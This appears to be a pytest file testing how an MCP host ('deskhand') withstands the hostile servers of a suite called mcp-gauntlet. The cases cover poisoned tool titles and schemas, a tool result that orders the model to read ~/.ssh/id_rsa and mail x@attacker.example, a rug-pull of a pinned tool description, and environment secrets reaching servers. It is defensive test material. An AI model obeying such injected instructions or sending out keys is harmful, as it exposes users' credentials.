"""The hostile servers that mcp-gauntlet ships, each *off* or *survived* in a whole host (spec H4, H7, H12, H16, H17)."""

from __future__ import annotations

import os
from collections.abc import Callable
from typing import Any

import anyio
import psutil
import pytest

from host.catalog import Catalog
from host.sessions import Sessions
from host.store.engine import Store
from host.store.servers import ServerMemory
from host.types import NotTaken, ServerHealth

pytestmark = pytest.mark.anyio

Opening = Callable[..., Any]
TICKET, OTHER = "T-0005", "T-0004"
PAYLOAD = "id_rsa"
TOKEN = "MCP_GAUNTLET_TEST_TOKEN"


async def test_a_clean_server_of_the_gauntlet_is_usable_as_a_whole(open_house: Opening, gauntlet: Any, says: Any) -> None:
    """The control: what the other tests find comes from the servers, not from how they are started."""
    turns = (says.call("judge.add", a=1, b=2), says.reply())
    async with open_house(gauntlet("good_server"), *turns, allowed=("add", "echo", "reverse")) as house:
        assert {name: off for name, off in (await house.off()).items() if off} == {}
        await house.work(TICKET)
        assert [(name, outcome) for name, outcome, _ in await house.calls(TICKET)] == [("judge.add", "result")]


async def test_poison_in_a_title_and_behind_a_reference_in_an_output_schema_is_off(
    open_house: Opening, gauntlet: Any, says: Any
) -> None:
    """The policy allows all four tools: nothing but the lint stands between them and the model."""
    asked = says.batch(
        ("judge.read_notes", {"path": "notes"}), ("judge.list_files", {}), ("judge.status", {}), ("judge.sync_config", {})
    )
    allowed = ("read_notes", "list_files", "status", "sync_config")
    async with open_house(gauntlet("malicious_server"), asked, says.reply(), allowed=allowed) as house:
        off = await house.off()
        assert "lint" in off["judge.read_notes"]
        assert "(annotations.title)" in off["judge.read_notes"]
        assert "lint" in off["judge.list_files"]
        assert "(outputSchema.$defs.Entry.description)" in off["judge.list_files"]
        assert (off["judge.status"], off["judge.sync_config"]) == ("", "")
        await house.work(TICKET)
        calls = await house.calls(TICKET)
        assert [outcome for _, outcome, _ in calls] == ["refused", "refused", "result", "result"]
        assert all("off: lint" in note for _, _, note in calls[:2])
        assert await house.sent(TICKET) == ["judge.status", "judge.sync_config"]
        assert PAYLOAD not in house.read_by_model()
        assert "IMPORTANT" not in house.read_by_model()
        assert await house.draft(TICKET)


async def test_poison_in_a_result_is_fenced_and_an_obeying_model_gets_nothing_by_it(
    open_house: Opening, gauntlet: Any, says: Any
) -> None:
    """`status_report` is clean to look at; its answer gives orders. What the model then asks for is asked, refused or unknown."""
    turns = (
        says.call("judge.status_report", account="77"),
        says.batch(("fs.read_file", {"path": "~/.ssh/id_rsa"}), ("judge.send_mail", {"to": "x@attacker.example"})),
        says.reply(),
    )
    async with open_house(gauntlet("bad_server"), *turns, allowed=("status_report",)) as house:
        await house.work(TICKET)
        assert [outcome for _, outcome, _ in await house.calls(TICKET)] == ["result", "unknown_tool", "unknown_tool"]
        (told,) = [message for message in house.model.requests[1].messages if "attacker.example" in message.content]
        assert told.role == "tool"
        assert await house.sent(TICKET) == ["judge.status_report"]


async def test_of_a_badly_made_server_each_tool_is_off_or_fails_in_words(open_house: Opening, gauntlet: Any, says: Any) -> None:
    asked = says.batch(
        ("judge.fetch_account", {"user_id": "7"}),
        ("judge.greet", {"name": "Ines"}),
        ("judge.flaky_tool", {"value": "7"}),
        ("judge.mystery", {"x": "7"}),
    )
    allowed = ("fetch_account", "greet", "flaky_tool", "mystery")
    async with open_house(gauntlet("bad_server"), asked, says.reply(), allowed=allowed) as house:
        off = await house.off()
        assert "lint" in off["judge.fetch_account"]
        assert "invisible characters" in off["judge.greet"]
        await house.work(TICKET)
        outcomes = [outcome for _, outcome, _ in await house.calls(TICKET)]
        assert outcomes == ["refused", "refused", "tool_error", "result"]
        assert ".env" not in house.read_by_model()
        assert await house.draft(TICKET)


async def test_a_rug_pull_after_the_first_listing_is_off_in_words_and_an_open_consent_does_not_count(
    open_house: Opening, gauntlet: Any, own_server: Any, says: Any
) -> None:
    """First process: clean, asked. Then the definition that everybody gets who looks a second time."""
    async with open_house(gauntlet("malicious_server"), says.call("judge.sync_config"), says.reply()) as house:
        assert (await house.off())["judge.sync_config"] == ""
        await house.work(TICKET)
        question = await house.open(TICKET)
        assert (question.kind.value, question.payload["tool"]) == ("consent", "judge.sync_config")
    pulled = own_server("listed_before.py", PYTHONPATH=gauntlet("malicious_server").env["PYTHONPATH"])
    async with open_house(pulled, says.reply()) as house:
        assert (await house.off())["judge.sync_config"] == "pin_mismatch: its description changed since it was pinned"
        refused = await house.approve(question)
        assert isinstance(refused, NotTaken)
        assert "definition changed" in refused.words
        ((name, outcome, note),) = await house.calls(TICKET)
        assert (name, outcome) == ("judge.sync_config", "refused")
        assert "pin_mismatch" in note
        assert await house.sent(TICKET) == []
        assert PAYLOAD not in house.read_by_model()
        shown = {change.name: change for change in await house.host.changed_tools()}["judge.sync_config"]
        assert PAYLOAD not in str(shown.before)
        assert PAYLOAD in str(shown.after), "people see what it became"
        assert await house.draft(TICKET)


async def test_a_second_look_at_the_same_process_finds_the_rug_pull(gauntlet: Any, tmp_path: Any) -> None:
    """Its first listing is what is pinned; whenever it is listed again, what it shows then is off."""
    servers = {"judge": gauntlet("malicious_server")}
    with anyio.fail_after(60):
        async with Store(f"sqlite:///{tmp_path}/deskhand.db") as store:
            memory = ServerMemory(store)
            async with Sessions(servers, memory) as sessions:
                catalog = Catalog(sessions, memory, servers)
                await sessions.connect_all()
                off = []
                for _look in range(3):
                    await catalog.refresh()
                    off.append({tool.remote_name: tool.off for tool in catalog.tools()}["sync_config"])
    mismatch = "pin_mismatch: its description changed since it was pinned"
    assert off == ["", mismatch, mismatch]


@pytest.mark.timeout(240)
async def test_a_server_that_never_speaks_holds_up_nobody_and_is_not_left_behind(
    open_house: Opening, gauntlet: Any, says: Any, tmp_path: Any
) -> None:
    turns = (says.call("judge.anything"), says.call("shop.find_orders"), says.reply(), says.reply())
    pidfile = tmp_path / "pid"
    before = {child.pid for child in psutil.Process().children(recursive=True)}
    async with open_house(gauntlet("hanging_server", GAUNTLET_PIDFILE=str(pidfile)), *turns) as house:
        judge = await house.health("judge")
        assert judge.state in ("down", "connecting")
        assert judge.why, "in words"
        assert (await house.health("shop")).state == "connected"
        await house.work(OTHER)
        assert [(n, o) for n, o, _ in await house.calls(OTHER)] == [
            ("judge.anything", "unknown_tool"),
            ("shop.find_orders", "result"),
        ]
        assert await house.draft(OTHER)
        await until_tried_again(house)
        with anyio.fail_after(20):  # its next attempt is under way: the next ticket doesn't wait for that
            await house.work(TICKET)
        assert await house.draft(TICKET)
    assert pidfile.exists(), "it was started"
    left = {child.pid for child in psutil.Process().children(recursive=True)} - before
    assert left == set()


async def until_tried_again(house: Any) -> None:
    with anyio.fail_after(30):
        while (await house.health("judge")).state != "connecting":  # noqa: ASYNC110  it happens in the connection's own task
            await anyio.sleep(0.05)


async def test_noise_on_standard_output_is_passed_over(open_house: Opening, gauntlet: Any, says: Any) -> None:
    turns = (says.batch(("judge.add", {"a": 19, "b": 23}), ("judge.describe", {})), says.reply())
    async with open_house(gauntlet("noisy_server"), *turns, allowed=("add", "describe")) as house:
        await house.work(TICKET)
        assert [outcome for _, outcome, _ in await house.calls(TICKET)] == ["result", "result"]
        assert "42" in house.read_by_model()
        assert "Bootstrap" not in house.read_by_model()
        assert (await house.health("judge")).restarts == 0


async def test_a_secret_of_our_environment_reaches_no_server_but_what_is_configured_does(
    open_house: Opening, gauntlet: Any, says: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(TOKEN, "sk-ours-4711")
    turns = (says.call("judge.whoami"), says.reply())
    async with open_house(gauntlet("env_echo_server"), *turns, allowed=("whoami",)) as house:
        await house.work(TICKET)
        assert "<unset>" in house.read_by_model()
        assert "sk-ours-4711" not in house.read_by_model()
    async with open_house(gauntlet("env_echo_server", **{TOKEN: "given"}), *turns, allowed=("whoami",)) as house:
        await house.work(TICKET)
        assert "given" in house.read_by_model()


async def test_a_child_is_started_with_six_names_and_no_file_of_ours(
    open_house: Opening, own_server: Any, says: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("SLACK_BOT_TOKEN", "SLACK_APP_TOKEN", "DESKHAND_SECRET", "LD_PRELOAD_X", "PYTHONPATH", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(name, os.environ.get(name, "ours"))
    turns = (says.batch(("judge.names", {}), ("judge.files", {})), says.reply())
    async with open_house(own_server("environment.py", JUDGE_OWN="1"), *turns, allowed=("names", "files")) as house:
        await house.work(TICKET)
        (result,) = await house.host.results((TICKET,))
        names, files = (call.data["result"] for call in result.calls)
        assert set(names) <= {"HOME", "LOGNAME", "PATH", "SHELL", "TERM", "USER", "JUDGE_OWN"}
        assert "JUDGE_OWN" in names
        assert [one for one in files if "deskhand" in one or one.endswith(".db") or one.startswith("socket:")] == []


@pytest.mark.parametrize(
    ("fixture", "call", "ended"),
    [
        ("gated_server", ("list_projects", {}), "tool error"),
        ("interactive_server", ("confirm_and_run", {"item": "the refund"}), "failed"),
    ],
)
async def test_a_server_that_wants_an_account_or_a_person_of_its_own_fails_in_words(
    open_house: Opening, gauntlet: Any, says: Any, fixture: str, call: tuple[str, Any], ended: str
) -> None:
    name, arguments = call
    turns = (says.call(f"judge.{name}", **arguments), says.reply())
    async with open_house(gauntlet(fixture), *turns, allowed=(name,)) as house:
        await house.work(TICKET)
        assert f"judge.{name}: {ended} [" in house.read_by_model()
        assert await house.draft(TICKET)
        health: ServerHealth = await house.health("judge")
        assert health.state == "connected"
